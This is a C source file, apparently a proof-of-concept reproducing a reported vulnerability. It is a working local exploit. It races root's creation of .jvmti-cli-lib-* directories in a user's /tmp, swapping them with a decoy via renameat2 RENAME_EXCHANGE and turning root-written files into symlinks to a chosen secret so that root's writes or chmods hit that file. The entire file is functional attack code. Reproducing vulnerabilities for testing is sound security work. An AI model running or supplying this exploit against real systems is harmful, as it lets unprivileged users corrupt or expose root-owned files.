/* The attack of issue 37 item 1, run by an unprivileged user on a directory she owns (the /tmp of
 * her JVM's mount namespace), for as many seconds as asked: she keeps swapping every
 * .jvmti-cli-lib-* directory root makes there with a decoy of hers (renameat2 RENAME_EXCHANGE),
 * and turns every regular file root creates in the decoy into a link to the secret, so that a
 * path-based write or chmod by root lands on the secret. Directories that already hold a library
 * are moved away so that root writes a new one. Prints how many links it planted when the time is
 * up or SIGTERM comes. */
#define _GNU_SOURCE
#include <dirent.h>
#include <signal.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stopped;

static void stop(int signal) {
    (void)signal;
    stopped = 1;
}

static int exchange(int dir, const char *a, const char *b) {
    return (int)syscall(SYS_renameat2, dir, a, dir, b, RENAME_EXCHANGE);
}

/* Replaces every regular file in dir/name by a link to secret; returns how many. */
static int plant_links(int dir, const char *name, const char *secret) {
    int fd = openat(dir, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
    if (fd < 0) {
        return 0;
    }
    DIR *entries = fdopendir(fd);
    if (entries == NULL) {
        close(fd);
        return 0;
    }
    int planted = 0;
    struct dirent *entry;
    while ((entry = readdir(entries)) != NULL) {
        struct stat st;
        if (entry->d_name[0] == '.' && (entry->d_name[1] == '\0' || strcmp(entry->d_name, "..") == 0)) {
            continue;
        }
        if (fstatat(fd, entry->d_name, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISREG(st.st_mode)
                && unlinkat(fd, entry->d_name, 0) == 0 && symlinkat(secret, fd, entry->d_name) == 0) {
            planted++;
        }
    }
    closedir(entries);
    return planted;
}

/* Whether dir/name holds a finished library (a name ending in .so). */
static int holds_library(int dir, const char *name) {
    int fd = openat(dir, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
    if (fd < 0) {
        return 0;
    }
    DIR *entries = fdopendir(fd);
    if (entries == NULL) {
        close(fd);
        return 0;
    }
    int found = 0;
    struct dirent *entry;
    while (!found && (entry = readdir(entries)) != NULL) {
        size_t length = strlen(entry->d_name);
        found = length > 3 && strcmp(entry->d_name + length - 3, ".so") == 0;
    }
    closedir(entries);
    return found;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: swap_and_link DIR SECRET SECONDS\n");
        return 2;
    }
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (dir < 0) {
        perror(argv[1]);
        return 1;
    }
    signal(SIGTERM, stop);
    time_t end = time(NULL) + atoi(argv[3]);
    long planted = 0;
    long moved = 0;
    while (!stopped && time(NULL) < end) {
        mkdirat(dir, "decoy", 0777);
        DIR *entries = fdopendir(dup(dir));
        if (entries == NULL) {
            return 1;
        }
        rewinddir(entries);
        struct dirent *entry;
        while ((entry = readdir(entries)) != NULL) {
            if (strncmp(entry->d_name, ".jvmti-cli-lib-", 15) != 0) {
                continue;
            }
            struct stat st;
            if (fstatat(dir, entry->d_name, &st, AT_SYMLINK_NOFOLLOW) == 0 && st.st_uid != getuid() && holds_library(dir, entry->d_name)) {
                char away[64];
                snprintf(away, sizeof away, "away-%ld", moved++);
                renameat(dir, entry->d_name, dir, away); /* root's finished directory: make root write again */
                continue;
            }
            if (exchange(dir, entry->d_name, "decoy") == 0) {
                for (int i = 0; i < 20; i++) { /* the decoy stays in place a while: root's next path-based step lands in it */
                    planted += plant_links(dir, entry->d_name, argv[2]);
                }
                exchange(dir, entry->d_name, "decoy");
            }
            planted += plant_links(dir, entry->d_name, argv[2]);
        }
        closedir(entries);
    }
    printf("%ld\n", planted);
    return 0;
}
